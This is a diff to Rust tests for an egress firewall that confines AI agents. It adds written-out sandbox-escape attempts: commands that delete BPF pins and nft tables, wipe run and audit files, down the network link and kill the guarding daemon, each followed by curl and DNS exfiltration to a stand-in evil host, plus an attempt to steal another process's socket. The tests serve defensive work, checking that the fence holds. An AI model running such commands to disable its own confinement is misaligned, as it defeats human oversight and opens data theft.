@@ -8,6 +8,7 @@ use crate::{
     policies::COMMON,
     program,
 };
+use nix::sys::signal::Signal;
 
 #[test]
 fn two_agents_with_different_policies_differ_on_one_destination() {
@@ -117,24 +118,59 @@ fn no_agent_reaches_the_control_socket() {
 #[test]
 fn no_agent_removes_what_holds_it() {
     let fence = fence(COMMON);
+    let (name, folder) = (fence.lab().name(), fence.lab().folder().display().to_string());
     let vandals = [
-        "pkill -9 -x egressd; find /sys/fs/bpf -path '*NAME*' -delete",
-        "nft delete table inet egressd; nft list tables | grep -i NAME | xargs -r nft delete",
-        "rm -rf FOLDER/run",
+        format!("rm -rf {folder}/run/* {folder}/audit.jsonl"),
+        format!("find {folder}/run/bpf /sys/fs/bpf -path '*{name}*' -delete"),
+        format!("umount -l {folder}/run/bpf {folder}/run"),
+        format!("nft list tables | grep {name} | xargs -r -L 1 nft delete"),
+        "ip link set wan down; ip address flush dev wan".to_owned(),
     ];
     for vandal in vandals {
-        let vandal = vandal.replace("NAME", fence.lab().name());
-        // Of this lab's daemon only: there may be others on the machine.
-        let vandal = vandal.replace("pkill -9 -x egressd", &format!("kill -9 {}", fence.daemon().pid()));
-        let vandal = vandal.replace("FOLDER", &fence.lab().folder().display().to_string());
         let flow = format!("({vandal}) 2> /dev/null; curl -s -m 2 http://{{v4}}/{{mark}}");
-        let mark = crate::sniffer::mark();
-        let flow = flow.replace("{v4}", &EVIL.v4.to_string()).replace("{mark}", &mark);
-        let (outcome, frames) =
-            crate::attack::violations(fence.lab(), &mark, || fence.agent(AGENT).run(&flow));
-        assert!(frames.is_empty(), "`{vandal}` opened the fence: {frames:#?}, {outcome:#?}");
+        stops_only_fenced(&fence, &flow);
         works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
     }
+}
+
+#[test]
+fn an_agent_that_ends_the_daemon_opens_nothing() {
+    let mut fence = fence(COMMON);
+    for signal in [Signal::SIGTERM, Signal::SIGKILL] {
+        let pid = fence.daemon().pid();
+        let number = signal as i32;
+        let flow = format!(
+            "kill -{number} {pid} 2> /dev/null;              curl -s -m 2 http://{{v4}}/{{mark}}; dig +short +time=1 +tries=1 @{{v4}} {{mark}}.evil.test"
+        );
+        stops_only_fenced(&fence, &flow);
+        // Whether it was hit depends on the uid of the agent.
+        if !fence.ctl(&["status", "-q"]).succeeded() {
+            fence.restart();
+        }
+        works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
+    }
+}
+
+#[test]
+fn no_agent_takes_a_socket_of_a_process_outside() {
+    let fence = fence(COMMON);
+    // Without privileges, so that it is not protected by having more of them than the agent.
+    let hold = "exec 7<> /dev/udp/10.99.0.66/9000; echo ready; read -r";
+    let mut command =
+        fence.lab().command(&["setpriv", "--bounding-set=-all", "--inh-caps=-all", "bash", "-c", hold]);
+    command.stdin(std::process::Stdio::piped());
+    let holder = program::Program::start(command);
+    program::poll("the holder", || holder.stdout().contains("ready").then_some(()));
+    stops(&fence.agent(AGENT), EVIL, &[&format!("{{trick}} steal {} 7 {{mark}}", holder.pid())]);
+}
+
+/// Like [`stops`], for what would do harm if it were run without the fence.
+fn stops_only_fenced(fence: &crate::fence::Fence, trick: &str) {
+    let mark = crate::sniffer::mark();
+    let script = trick.replace("{v4}", &EVIL.v4.to_string()).replace("{mark}", &mark);
+    let run = || fence.agent(AGENT).run(&script);
+    let (outcome, frames) = crate::attack::violations(fence.lab(), &mark, run);
+    assert!(frames.is_empty(), "`{trick}` opened the fence: {frames:#?}, {outcome:#?}");
 }
 
 const TWO: &str = "
